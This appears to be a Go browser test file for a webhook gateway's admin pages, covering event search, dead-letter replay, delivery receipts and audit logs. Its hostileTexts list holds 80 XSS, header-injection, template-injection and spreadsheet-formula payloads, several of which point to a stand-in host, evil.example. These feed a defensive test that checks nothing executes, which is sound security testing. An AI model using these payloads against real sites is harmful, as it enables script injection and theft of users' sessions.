//go:build browser

package cli

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/onceward/onceward/admin"
)

func css(s string) chromedp.CSS { return chromedp.CSS(s) }

// fill types into a field that is named.
func (s *site) fill(ctx context.Context, name, text string) {
	s.t.Helper()
	s.do(ctx, chromedp.SetValue(css(`main [name="`+name+`"]`), text))
}

// TestBrowserFindEvent: a support person finds one event by its ID, sees that
// each target got it, and that no number of it was changed.
func TestBrowserFindEvent(t *testing.T) {
	s := openSite(t)
	s.sendSome()
	ctx := s.browser()
	s.login(ctx, "operator")
	s.press(ctx, `nav a[href="/events"]`)
	s.fill(ctx, "type", "customer.subscription.*")
	s.press(ctx, `main form.find button`)
	s.has(ctx, "type = customer.subscription.*")
	if n := get(s, ctx, chromedp.Evaluate[int](`document.querySelectorAll("tbody td.ty").length`)); n != 10 {
		t.Errorf("%d events of the type, want 10", n)
	}
	s.press(ctx, `main .top a.btn`)
	s.has(ctx, "type = customer.subscription.*", "Replay 20 deliveries")
	s.open(ctx, "/events")
	s.fill(ctx, "q", "evt_1SYkQ2Lw8vB3nZpR4tUc0003")
	s.press(ctx, `main form.find button`)
	s.has(ctx, "invoice.paid", "stripe:evt_1SYkQ2Lw8vB3nZpR4tUc0003", "It arrived 3 times", "label 2026-11 matched", `"row": 1152921506151679042`, `"note": "Größe L"`)
	s.has(ctx, "Received 3 times", "same body", "other body", "secret 2026-11", "Addresses of senders that proved themselves are not kept")
	if n := get(s, ctx, chromedp.Evaluate[int](`document.querySelectorAll('[aria-label^="What came"] tbody tr').length`)); n != 2 {
		t.Errorf("%d repeats are listed, want 2", n)
	}
	s.press(ctx, `nav.tabs a[href^="?view=raw"]`)
	s.has(ctx, `"row":1152921506151679042`)
	s.press(ctx, `nav.tabs a[href^="?view=hex"]`)
	s.has(ctx, "00000000  7b 22 69 64")
	s.press(ctx, `nav.tabs a[href^="?view=headers"]`)
	s.has(ctx, "Stripe-Signature", "[masked]")
	s.quiet()
}

// TestBrowserFindByCustomer: a support person who has only a customer's number
// finds that customer's events and no others, and opens one.
func TestBrowserFindByCustomer(t *testing.T) {
	s := openSite(t)
	s.sendSome()
	ctx := s.browser()
	s.login(ctx, "viewer")
	s.open(ctx, "/events")
	s.fill(ctx, "where", "customer=cus_dead")
	s.press(ctx, `form.find button`)
	s.has(ctx, "where = customer=cus_dead", "7 events on this page", "customer.updated")
	if text := s.text(ctx, "main"); strings.Contains(text, "invoice.paid") {
		t.Errorf("events of other customers are among them: %s", text)
	}
	s.press(ctx, `tbody td.ty a`)
	s.has(ctx, "customer", "cus_dead", "dead for crm, delivered to billing")
	s.press(ctx, `dl.facts a[href="/events?where=customer%3Dcus_dead"]`)
	s.has(ctx, "7 events on this page")
	s.open(ctx, "/events?where=customer%3Dcus_nobody")
	s.has(ctx, "No event matches", "drop the field")
	s.quiet()
}

// TestBrowserWhyRefused: an engineer sees that a source refuses, why, and what
// to do.
func TestBrowserWhyRefused(t *testing.T) {
	s := openSite(t)
	s.sendSome()
	ctx := s.browser()
	s.login(ctx, "viewer")
	s.comes(ctx, "/", "Source github refuses most of what arrives")
	s.has(ctx, "signature mismatch")
	s.press(ctx, `.open a[href="/refusals?source=github"]`)
	s.has(ctx, "Explained: github", "no secret matched", "onceward verify --explain --refusal", "Bodies need the role operator")
	if strings.Contains(s.text(ctx, "main"), strings.Repeat("ab", 32)) {
		t.Error("the page shows the signature")
	}
	s.quiet()
}

// TestBrowserReplayDeadLetters: the dead letters of a target are reviewed,
// looked at dry, and replayed for a reason; they arrive.
func TestBrowserReplayDeadLetters(t *testing.T) {
	s := openSite(t)
	s.sendSome()
	ctx := s.browser()
	s.login(ctx, "operator")
	s.press(ctx, `.open a[href="/dead?target=crm"]`)
	s.has(ctx, "answered 422", "8 deliveries")
	s.answer("crm", 200, "ok")
	s.press(ctx, `main a.btn.main`)
	s.has(ctx, "Deliveries sent again", "Replay 8 deliveries")
	s.fill(ctx, "reason", "crm takes them again")
	s.press(ctx, `form.act .btn.main`)
	s.has(ctx, "state = dead", "crm takes them again")
	s.settle("crm")
	s.open(ctx, "/replays")
	s.has(ctx, "done", "8 of 8")
	s.open(ctx, "/dead")
	s.has(ctx, "No dead letters")
	s.open(ctx, "/events/"+strings.TrimPrefix(s.refOf(ctx, "evt_1SYdead00000000000000003"), "/"))
	s.has(ctx, "replayed once", "2 attempts")
	s.quiet()
}

// TestBrowserControls: a target is tested, paused and resumed, a source is sent
// a test that can be followed, and the config is loaded again.
func TestBrowserControls(t *testing.T) {
	s := openSite(t)
	ctx := s.browser()
	s.login(ctx, "admin")
	s.open(ctx, "/targets?name=billing")
	s.press(ctx, `form[action="/targets/test"] button`)
	s.has(ctx, "answered 200", "marked as a test")
	s.open(ctx, "/targets?name=billing")
	s.press(ctx, `a[href="/targets/act?name=billing&do=pause"]`)
	s.fill(ctx, "reason", "deploy")
	s.press(ctx, `form.act .btn.main`)
	s.has(ctx, "By “admin”", "deploy", "Nothing is attempted")
	s.stripeEvent("evt_waits", "invoice.paid", "cus_1")
	s.open(ctx, "/sources/test?name=anything")
	s.has(ctx, "billing")
	s.press(ctx, `form.act .btn.main`)
	s.has(ctx, "answered 200")
	s.press(ctx, `main .say a`)
	s.has(ctx, "sent by trigger or a test", "pending")
	s.open(ctx, "/targets?name=billing")
	s.has(ctx, "2 pending")
	s.press(ctx, `a[href="/targets/act?name=billing&do=resume"]`)
	s.fill(ctx, "reason", "deployed")
	s.press(ctx, `form.act .btn.main`)
	s.settle("billing")
	s.open(ctx, "/config")
	s.press(ctx, `form[action="/config/reload"] button`)
	s.has(ctx, "The config on disk is in effect")
	if text := s.text(ctx, "main"); strings.Contains(text, browserStripe) || !strings.Contains(text, "[redacted:2026-11]") {
		t.Error("the config page shows a secret, or not its label")
	}
	s.quiet()
}

// TestBrowserProveDelivery: a finance person proves that an event arrived and
// was delivered, and the receipt holds outside of the gateway; what was done is
// on record with who and why.
func TestBrowserProveDelivery(t *testing.T) {
	s := openSite(t)
	s.stripeEvent("evt_paid", "invoice.paid", "cus_1")
	s.settle("billing")
	s.settle("crm")
	ctx := s.browser()
	s.login(ctx, "operator")
	ref := s.refOf(ctx, "evt_paid")
	s.press(ctx, `a[href="/events/`+ref+`/proof"]`)
	s.has(ctx, "verified", "delivered to billing, crm", "accepted", "Checkpoint", "onceward audit verify-receipt "+ref+".json")
	receipt := get(s, ctx, chromedp.Evaluate[string](`fetch(document.querySelector("a[download]").href).then(r => r.text())`, chromedp.EvalAwaitPromise))
	file := filepath.Join(t.TempDir(), "receipt.json")
	check := func(text string) (int, string) {
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		var out, said bytes.Buffer
		code := Main(t.Context(), []string{"audit", "verify-receipt", file, "--config", filepath.Join(s.dir, "config.toml"), "--addr", strings.TrimPrefix(s.base, "http://")}, IO{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &said})
		return code, out.String() + said.String()
	}
	if code, said := check(receipt); code != 0 {
		t.Errorf("the receipt does not hold: %d %s", code, said)
	}
	if code, said := check(strings.Replace(receipt, "evt_paid", "evt_fake", 1)); code == 0 {
		t.Errorf("a changed receipt holds: %s", said)
	}
	s.open(ctx, "/targets/act?name=crm&do=pause")
	s.fill(ctx, "reason", "quarter end")
	s.press(ctx, `form.act .btn.main`)
	s.press(ctx, `nav a[href="/audit"]`)
	s.has(ctx, "oncall", "quarter end", `"target":"crm"`, "login")
	s.press(ctx, `form[action="/audit/sign"] button`)
	s.has(ctx, "signed whole")
	s.press(ctx, `form[action="/audit/verify"] button`)
	s.becomes(ctx, "#verify", "as recorded") // by itself
	s.has(ctx, "records are as they were recorded, from the very first", "asked for by oncall")
	s.open(ctx, "/audit?kind=all")
	s.has(ctx, "accepted", "delivered", "evt_paid", "audit/verify")
	s.quiet()
}

// TestBrowserReplayDay: the dead letters of a day are looked at dry, with what would
// be sent and how long that takes at a rate; nothing is sent by it. Then they are
// replayed for a reason, and older and other ones are left alone.
func TestBrowserReplayDay(t *testing.T) {
	s := openSite(t)
	s.sendSome()
	ctx := s.browser()
	s.login(ctx, "operator")
	s.open(ctx, "/replay?state=dead&since=24h&target=crm&rate=60/m")
	s.has(ctx, "since = 24h", "Deliveries sent again", "Bodies sent with them", "about 8.00 s at 60/m", "Replay 8 deliveries")
	s.open(ctx, "/dead?target=crm")
	s.has(ctx, "8 deliveries") // looking changed nothing
	s.answer("crm", 200, "ok")
	s.open(ctx, "/replay?state=dead&since=24h&target=crm")
	s.has(ctx, "without a rate as fast as the targets answer")
	if !get(s, ctx, chromedp.Evaluate[bool](`document.querySelector("#reason").required`)) {
		t.Error("the browser would send the form without a reason")
	}
	s.fill(ctx, "reason", "crm was mended")
	s.press(ctx, `form.act .btn.main`)
	s.settle("crm")
	s.open(ctx, "/replays")
	s.has(ctx, "done", "8 of 8", "state = dead", "crm was mended")
	s.quiet()
}

// hostileTexts are 80 payloads: ways out of text, attributes, URLs, styles,
// scripts, templates and comments, and ways to rearrange what is seen.
func hostileTexts() []string {
	out := []string{
		`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`,
		`</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `</pre><script>alert(1)</script>`,
		`</script><script>alert(1)</script>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `<!--<img src="--><img src=x onerror=alert(1)//">`,
		`<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `' onerror='alert(1)`, `" onfocus="alert(1)" autofocus="`,
		`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=`alert(1)", `x" style="background:url(//evil.example)`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="javascript:alert(1)">`, `<embed src="data:text/html,<script>alert(1)</script>">`,
		`<a href="javascript:alert(1)">x</a>`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)",
		`data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `//evil.example/`, `https://evil.example/`,
		`<base href="//evil.example/">`, `<meta http-equiv="refresh" content="0;url=//evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{display:none}</style>`,
		`<form action="//evil.example/"><input type=submit>`, `<button formaction="javascript:alert(1)">x</button>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`,
		`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<body onload=alert(1)>`, `<marquee onstart=alert(1)>`,
		`<div hx-get="/config" hx-trigger="load">x</div>`, `<div hx-on:load="alert(1)">x</div>`, `<div data-hx-post="/config/reload" hx-trigger="load">`, `" hx-get="/config" hx-trigger="load" x="`,
		`{{.}}`, `{{alert(1)}}`, `${alert(1)}`, `#{7*7}`,
		`<%= 7*7 %>`, `{% raw %}`, `[[x]](javascript:alert(1))`, `<x-y is="z">`,
		"\u202e\u202dgnp.exe", "\u2066abc\u2069", "a\u200bb\u200c\u200d", "\ufeffx",
		"\u2028alert(1)\u2029", "\x00<script>alert(1)</script>", "\x1b[2J\x1b]0;owned\x07", "\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
		"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe", "\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\xed\xa0\x80",
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)`, `&quot; onload=&quot;alert(1)`, `%3Cscript%3Ealert(1)%3C/script%3E`,
		`=HYPERLINK("//evil.example","x")`, `@SUM(1+1)*cmd|'/C calc'!A0`, strings.Repeat("A", 5000), `'"<>&;` + "`" + `\`,
	}
	return out
}

// TestBrowserBadInput: 80 payloads as bodies, header values, types, event IDs,
// query strings and answers of targets. Nothing runs, nothing is loaded from
// elsewhere, no dialog opens, and the policy has nothing to report.
func TestBrowserBadInput(t *testing.T) {
	s := openSite(t)
	payloads := hostileTexts()
	if len(payloads) != 80 {
		t.Fatalf("%d payloads, want 80", len(payloads))
	}
	var current string
	s.answers.Store("deploys", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header()["X-Evil"] = []string{inHeader(current)}
		w.WriteHeader(422)
		_, _ = io.WriteString(w, current)
	}))
	c, err := admin.NewClient(admin.ClientConfig{Addr: s.base, Token: s.tokens["admin"]})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	for i, p := range payloads {
		current = p
		header := inHeader(p)
		evil := func(r *http.Request) {
			r.Header["X-Github-Event"] = []string{header}
			r.Header["X-Github-Delivery"] = []string{fmt.Sprintf("%03d %s", i, header)}
			r.Header["X-Github-Hook-Id"] = []string{header}
			r.URL.RawQuery = "q=" + base64.URLEncoding.EncodeToString([]byte(p)) + "&x=" + strings.Map(plainQuery, p)
		}
		if status := s.send("github", "id", "push", p, evil); status != 200 {
			t.Errorf("payload %q was answered %d", p, status)
		}
		s.settle("deploys")
		s.send("github", "id", "push", p, evil, func(r *http.Request) { r.Header["X-Hub-Signature-256"] = []string{header} })
	}
	ctx := s.browser()
	s.login(ctx, "admin")
	paths := []string{"/", "/events", "/refusals", "/dead", "/targets?name=deploys", "/sources?name=github", "/replay?state=dead"}
	page, err := c.Events(t.Context(), admin.Filter{Source: "github"}, "", 500)
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Items) < 78 { // two of them may have the same bytes as another
		t.Errorf("%d events came of 80 payloads", len(page.Items))
	}
	for i, ev := range page.Items {
		path := "/events/" + ev.Ref.String()
		paths = append(paths, path+"?view="+[]string{"pretty", "raw", "hex", "headers"}[i%4])
	}
	for _, r := range refusals(t, c) {
		paths = append(paths, "/refusals?id="+r.ID)
	}
	for _, p := range payloads {
		q := escapeQuery(p)
		paths = append(paths, "/events?q="+q, "/events?type="+q, "/login?next="+q)
	}
	for _, path := range paths {
		s.open(ctx, path)
		// Open everything that is folded: what is hidden must be harmless too.
		ran := get(s, ctx, chromedp.Evaluate[[]string](`[...document.querySelectorAll("details")].forEach(d => d.open = true),
			[...document.querySelectorAll("*")].flatMap(e => [...e.attributes].filter(a => a.name.startsWith("on") || a.name === "style" || /^(javascript|data|vbscript):/i.test(a.value) && ["href", "src", "action", "formaction"].includes(a.name) || /^\s*(https?:)?[\/\\]{2}/.test(a.value) && !a.value.startsWith("https://docs.github.com/") && ["href", "src", "action"].includes(a.name) || /hx-/.test(a.name) && !["hx-get", "hx-trigger"].includes(a.name)).map(a => e.tagName + " " + a.name + "=" + a.value))`))
		for _, r := range ran {
			t.Errorf("%s: %s", path, r)
		}
		if title := get(s, ctx, chromedp.Title()); !strings.HasSuffix(title, "· Onceward") {
			t.Errorf("%s has the title %q", path, title)
		}
		if !strings.HasPrefix(s.where(ctx), "/") {
			t.Errorf("%s led to %s", path, s.where(ctx))
		}
	}
	s.quiet()
	t.Logf("%d pages opened with %d payloads", len(paths), len(payloads))
}

// inHeader is a text as far as a header line can hold it.
func inHeader(s string) string {
	b := []byte(s)
	for i, c := range b {
		if c < ' ' || c == 0x7f {
			b[i] = ' '
		}
	}
	return string(b)
}

// plainQuery keeps what may stand in a query as it is.
func plainQuery(r rune) rune {
	if r <= ' ' || r > '~' || r == '#' {
		return '_'
	}
	return r
}

func escapeQuery(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02x", s[i])
	}
	return b.String()
}

func refusals(t *testing.T, c *admin.Client) []admin.Refusal {
	t.Helper()
	out, err := c.Refusals(t.Context(), admin.RefusalFilter{Limit: 100})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// TestBrowserNotices is the control of the tests above: a page that is not
// careful is noticed, by each of the ways in which they look.
func TestBrowserNotices(t *testing.T) {
	s := openSite(t)
	careless := http.NewServeMux()
	careless.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/policy" {
			w.Header().Set("Content-Security-Policy", "default-src 'none'")
		}
		fmt.Fprint(w, `<!doctype html><title>x</title><body style="color:#999;background:#fff"><h1>x</h1><h1>y</h1><input><script>alert(1)</script><img src=x onerror=alert(2)>`)
	})
	ts := newLocal(t, careless)
	ctx := s.browser()
	s.do(ctx, chromedp.Navigate(ts))
	if got := strings.Join(s.seen.take(), "\n"); !strings.Contains(got, "dialog: 1") {
		t.Errorf("a script that ran was not noticed: %s", got)
	}
	faults := strings.Join(get(s, ctx, chromedp.Evaluate[[]string](findFaults)), "\n")
	for _, want := range []string{"contrast", "2 h1", "no label"} {
		if !strings.Contains(faults, want) {
			t.Errorf("findFaults does not find %s: %s", want, faults)
		}
	}
	s.do(ctx, chromedp.Navigate(ts+"/policy"))
	if got := strings.Join(s.seen.take(), "\n"); strings.Contains(got, "dialog") || !strings.Contains(got, "Content Security Policy") {
		t.Errorf("a report of the policy was not noticed: %s", got)
	}
}
